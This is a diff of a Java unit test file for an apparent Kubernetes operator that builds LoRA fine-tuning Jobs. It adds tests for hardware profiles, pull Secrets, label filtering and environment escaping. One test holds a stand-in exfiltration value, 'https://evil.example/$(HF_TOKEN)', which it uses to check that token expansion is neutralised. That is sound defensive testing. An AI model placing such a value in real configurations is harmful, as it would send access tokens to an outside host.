@@ -13,9 +13,11 @@ import io.fabric8.kubernetes.api.model.Volume;
 import io.fabric8.kubernetes.api.model.batch.v1.Job;
 import io.fabric8.kubernetes.api.model.batch.v1.PodFailurePolicyRule;
 import io.fabric8.kubernetes.client.utils.Serialization;
+import io.kubelora.api.EnvVarSpec;
 import io.kubelora.api.LoraFineTune;
 import io.kubelora.api.TrainerEnvironment;
 import io.kubelora.api.TrainerExitCode;
+import io.kubelora.api.platform.Profile;
 import io.kubelora.operator.Runs;
 import io.kubelora.operator.TestSettings;
 import java.io.InputStream;
@@ -27,16 +29,47 @@ class TrainingJobTest {
 
     private static final String HASH = "0123456789abcdef0123456789abcdef";
 
+    /** A profile that adds an image pull Secret and tells the trainer the memory of its GPUs. */
+    private static final Profile PROFILE = Profile.of(Serialization.unmarshal("""
+            apiVersion: kubelora.io/v1alpha1
+            kind: FineTuneProfile
+            metadata: {name: a100-80gb}
+            spec:
+              gpuMemory: 80Gi
+              imagePullSecrets: [registry-mirror, registry-ml]
+            """, com.fasterxml.jackson.databind.JsonNode.class), "profile");
+
+    /**
+     * Every field of the run, its own labels and annotations (kubectl's, the operator's and Argo CD's left out, the
+     * operator's labels winning), its environment, the operator's and the profile's pull Secrets.
+     */
     @Test
     void fullSpecGivesExactlyTheContractedJob() throws Exception {
         LoraFineTune run = Runs.full("llama-alpaca");
-        run.getMetadata().setLabels(Map.of(RunLabels.KUEUE_QUEUE, "team-a"));
+        run.getMetadata().setLabels(Map.of(RunLabels.KUEUE_QUEUE, "team-a", "cost-center", "ml-research",
+                RunLabels.INSTANCE, "argo-app", "argocd.argoproj.io/instance", "training"));
+        run.getMetadata().setAnnotations(Map.of("sidecar.istio.io/inject", "false",
+                "kubectl.kubernetes.io/last-applied-configuration", "{}", RunLabels.RESTART_ANNOTATION, "2",
+                "argocd.argoproj.io/tracking-id", "training:kubelora.io/LoraFineTune:test/llama-alpaca"));
         Job expected;
         try (InputStream in = getClass().getResourceAsStream("full-job.yaml")) {
             expected = Serialization.unmarshal(in, Job.class);
         }
-        Job actual = TrainingJob.desired(run, TestSettings.defaults(), HASH);
+        Job actual = TrainingJob.desired(run, PROFILE, TestSettings.defaults().withImagePullSecrets("registry-ml"),
+                HASH);
         assertEquals(Serialization.asYaml(expected), Serialization.asYaml(actual));
+    }
+
+    /** Kubernetes would expand $(HF_TOKEN) in a plain variable into the token: it is kept as written. */
+    @Test
+    void aPlainVariableCannotReadAnotherOne() {
+        LoraFineTune run = Runs.full("expand");
+        run.setSpec(run.getSpec().toBuilder().env(List.of(new EnvVarSpec("HF_ENDPOINT",
+                "https://evil.example/$(HF_TOKEN)"), new EnvVarSpec("EMPTY", null))).build());
+        List<EnvVar> env = TrainingJob.desired(run, TestSettings.defaults(), HASH).getSpec().getTemplate().getSpec()
+                .getContainers().get(0).getEnv();
+        assertTrue(env.contains(new EnvVar("HF_ENDPOINT", "https://evil.example/$$(HF_TOKEN)", null)), env.toString());
+        assertTrue(env.contains(new EnvVar("EMPTY", "", null)), env.toString());
     }
 
     @Test
@@ -118,10 +151,9 @@ class TrainingJobTest {
     @Test
     void zeroGpusAsksForNoGpuResource() {
         LoraFineTune run = Runs.minimal("cpu");
-        run.setSpec(new io.kubelora.api.LoraFineTuneSpec(run.getSpec().baseModel(), run.getSpec().dataset(), null,
-                null, null, null, null, run.getSpec().output(), null,
-                new io.kubelora.api.ResourcesSpec(0, null, null, null, null, null, null, null, null, null),
-                null, null, null, null, null, null, null));
+        run.setSpec(run.getSpec().toBuilder()
+                .resources(new io.kubelora.api.ResourcesSpec(0, null, null, null, null, null, null, null, null, null))
+                .build());
         Container c = TrainingJob.desired(run, TestSettings.defaults(), HASH)
                 .getSpec().getTemplate().getSpec().getContainers().get(0);
         assertNull(c.getResources().getLimits());
